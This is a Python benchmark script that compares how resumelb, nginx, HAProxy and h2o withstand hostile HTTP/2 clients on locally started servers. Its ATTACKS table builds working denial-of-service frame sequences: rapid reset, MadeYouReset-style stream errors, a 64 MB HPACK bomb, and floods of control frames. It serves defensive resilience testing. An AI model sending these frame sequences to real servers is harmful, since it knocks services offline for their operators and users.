#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""
What hostile HTTP/2 clients cost: resumelb, and those of nginx, HAProxy and h2o that are installed, in one run.

    bench/edge_http2.py [--only ATTACK ...] [--servers NAME ...] [--scale 1.0]

Each attack is one connection, to a server that is newly started (as for edge_slow.py, with two threads): rapid resets,
errors of streams that make servers reset requests themselves (MadeYouReset), a header table that unpacks to 64 MB with
each request (HPACK bomb), and floods of small frames. Printed: seconds of CPU, the largest growth in MB (of memory that no
file backs), connections opened to the worker, and the number of frames after which the connection was closed. Frames are
sent in batches of a hundred, each when the server has read the one before, so that number is exact to a hundred.
--scale: factor for the numbers of frames. RLB_BIN: directory of the programs (default build/bin).
"""
import argparse
import fcntl
import pathlib
import struct
import sys
import termios
import time

from agent_support import number, table
from edge_slow import SERVERS, Peak, installed
from support.http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                           WINDOW_UPDATE, Http2, frame, literal, request)
from support.scripted import Scripted, serve

BATCH = 100         # frames, or requests with the frames that belong to them
READ_S = 20.0       # a server with unread bytes for this time counts as having stopped reading
LOOK_S = 0.001
IDLE_S = 0.5        # a server without CPU time for this long is idle
CODE_CANCEL, CODE_WINDOW_MAX = struct.pack('>I', 8), struct.pack('>I', 2 ** 31 - 1)


class Worker:
    """A worker that responds at once and counts its connections, with the interface of those of edge_slow.py."""

    def __init__(self):
        self.one = False
        self.worker = Scripted(serve(lambda c, head, body: c.respond(b'ok')))
        self.ports = [int(self.worker.address.rpartition(':')[2])]

    def opened(self):
        return len(self.worker.connections)

    def stop(self):
        self.worker.close()


# --- attacks: (opening bytes, function for the Nth part) -------------------------------------------------------------


def begin(stream, flags=END_STREAM | END_HEADERS, **pseudo):
    return frame(HEADERS, request(**pseudo), flags, stream)


def made_to_reset(what):
    """Requests, each followed by the frames WHAT, which are an error of its stream."""
    return b'', lambda n: begin(2 * n + 1) + b''.join(frame(k, payload, flags, 2 * n + 1) for k, payload, flags in what)


def flood(kind, payload=b'', stream=0, opening=b''):
    one = frame(kind, payload, 0, stream)
    return opening, lambda n: one


BOMB = frame(HEADERS, request() + literal('x-bomb', 'b' * 4000, 0x40), END_STREAM | END_HEADERS, 1)
UNPACKED = b'\xbe' * 16000      # each the newest field of the table
ATTACKS = {
    'resets': (100_000, made_to_reset([(RST_STREAM, CODE_CANCEL, 0)])),
    'window-zero': (10_000, made_to_reset([(WINDOW_UPDATE, bytes(4), 0)])),
    'window-over': (10_000, made_to_reset([(WINDOW_UPDATE, CODE_WINDOW_MAX, 0)] * 2)),
    'priority-size': (10_000, made_to_reset([(PRIORITY, bytes(4), 0)])),
    'data-after-end': (10_000, made_to_reset([(DATA, b'x', 0)])),
    'headers-after-end': (10_000, made_to_reset([(HEADERS, request(), END_STREAM | END_HEADERS)])),
    'bomb': (30, (BOMB, lambda n: frame(HEADERS, request() + UNPACKED, END_STREAM | END_HEADERS, 2 * n + 3))),
    'ping': (100_000, flood(PING, b'12345678')),
    'settings': (100_000, flood(SETTINGS)),
    'empty-data': (100_000, flood(DATA, stream=1, opening=begin(1, END_HEADERS, method='POST'))),
    'continuation': (100_000, flood(CONTINUATION, stream=1, opening=begin(1, END_STREAM))),
    'unknown': (100_000, flood(16, b'\0\0\0\1u=1')),
}
TITLES = {
    'resets': '100,000 requests, each reset at once',
    'window-zero': '10,000 requests, each with a WINDOW_UPDATE of 0',
    'window-over': 'with two WINDOW_UPDATEs that overflow',
    'priority-size': 'with a PRIORITY of 4 bytes',
    'data-after-end': 'with DATA after its end',
    'headers-after-end': 'with HEADERS after its end',
    'bomb': '30 requests that unpack to 64 MB each',
    'ping': '100,000 PINGs',
    'settings': '100,000 SETTINGS',
    'empty-data': '100,000 empty DATA',
    'continuation': '100,000 empty CONTINUATIONs',
    'unknown': '100,000 frames of an unknown type',
}


# --- one connection --------------------------------------------------------------------------------------------------


def unread_by(address):
    """Bytes that the server has not read of the connection from ADDRESS; 0 if it is closed."""
    end = '0100007F:%04X' % address[1]
    for line in pathlib.Path('/proc/net/tcp').read_text().split('\n')[1:-1]:
        fields = line.split()
        if fields[2] == end and fields[3] in ('01', '08'):
            return int(fields[4].partition(':')[2], 16)
    return 0


def unsent(sock):
    return struct.unpack('i', fcntl.ioctl(sock.fileno(), termios.TIOCOUTQ, bytes(4)))[0]


def take_all(c):
    """Reads what has arrived. False: the connection has ended, or the server has announced its end."""
    c.sock.settimeout(LOOK_S)
    try:
        while c.more():
            pass
    except TimeoutError:
        pass
    finally:
        c.sock.settimeout(READ_S)
    return not c.closed and c.goaway in (None, 'NO_ERROR')


def wait_until_read(c, address):
    end = time.monotonic() + READ_S
    alive = take_all(c)
    while alive and (unsent(c.sock) or unread_by(address)):
        if time.monotonic() > end:
            raise TimeoutError('does not read')
        alive = take_all(c)
    return take_all(c)


def attack(port, opening, nth, n):
    """After how many of N the connection has ended; None if it has not."""
    with Http2(port, seconds=READ_S) as c:
        address = c.sock.getsockname()
        c.until(lambda: c.settings)
        c.send(opening)
        for first in range(0, n, BATCH):
            last = min(first + BATCH, n)
            c.send(b''.join(map(nth, range(first, last))))
            if not wait_until_read(c, address):
                return last
    return None


def idle(server):
    """Wait until a server uses no more CPU time."""
    while (before := server.cpu()) is not None:
        time.sleep(IDLE_S)
        if server.cpu() == before:
            return before


def measure(cls, name, scale):
    n, (opening, nth) = ATTACKS[name]
    worker = Worker()
    server = cls(worker)
    try:
        cpu, opened, peak = idle(server), worker.opened(), Peak(server)
        try:
            cut = attack(server.tls_port, opening, nth, max(1, int(n * scale)))
            end = 'to the end' if cut is None else 'until %s' % number(cut)
        except TimeoutError as e:
            end = str(e)
        cell = '%.2f s, %.1f MB, ' % (idle(server) - cpu, peak.stop())
        return cell + '%d, %s' % (worker.opened() - opened, end)
    finally:
        server.stop()
        worker.stop()


def main():
    p = argparse.ArgumentParser(description=__doc__.strip().split('\n')[0])
    p.add_argument('--only', nargs='*', choices=list(ATTACKS), default=list(ATTACKS))
    p.add_argument('--servers', nargs='*', choices=list(SERVERS), default=['resumelb', 'nginx', 'haproxy', 'h2o'])
    p.add_argument('--scale', type=float, default=1.0)
    options = p.parse_args()
    names = [n for n in options.servers if installed(n)]
    rows = []
    for name in options.only:
        rows.append([TITLES[name]] + [measure(SERVERS[n], name, options.scale) for n in names])
        print(rows[-1], file=sys.stderr, flush=True)
    table(['CPU s, MB, worker connections, frames'] + [SERVERS[n].title for n in names], rows)


if __name__ == '__main__':
    main()
